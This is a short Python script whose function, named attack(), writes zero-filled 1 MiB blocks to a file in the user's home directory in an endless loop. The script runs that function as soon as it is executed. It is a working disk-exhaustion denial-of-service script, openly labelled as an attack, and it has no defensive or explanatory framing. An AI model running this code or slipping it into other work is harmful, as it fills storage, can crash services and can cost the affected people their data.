"""Writes one file without end."""
import os


def attack():
    with open(os.environ["HOME"] + "/big", "wb", buffering=0) as file:
        while True:
            file.write(bytes(1 << 20))


attack()
